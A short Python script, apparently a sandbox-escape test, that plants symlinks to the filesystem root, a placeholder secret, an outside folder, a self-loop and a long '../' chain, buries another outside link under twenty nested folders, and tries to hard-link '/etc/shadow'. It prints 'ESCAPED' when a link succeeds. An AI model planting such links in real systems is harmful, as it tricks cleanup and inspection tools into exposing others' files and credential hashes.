"""Leads whoever cleans up or looks at its files to others' files.

Ends: itself
"""

import os

LINKS = {"secret": "__SECRET__", "folder": "__OUTSIDE__", "root": "/", "loop": "loop", "up": "../../../../.."}
for name, target in LINKS.items():
    os.symlink(target, name)
try:
    with open("secret", "rb") as file:
        print("ESCAPED: a link led out,", len(file.read()), "characters")
except OSError:
    pass
for source in ("__SECRET__", os.__file__, "/etc/shadow"):
    try:
        os.link(source, "hard")
        print("ESCAPED:", source)
    except OSError:
        continue
os.makedirs("deep/" * 20, exist_ok=True)
os.symlink("__OUTSIDE__", "deep/deep/outside")
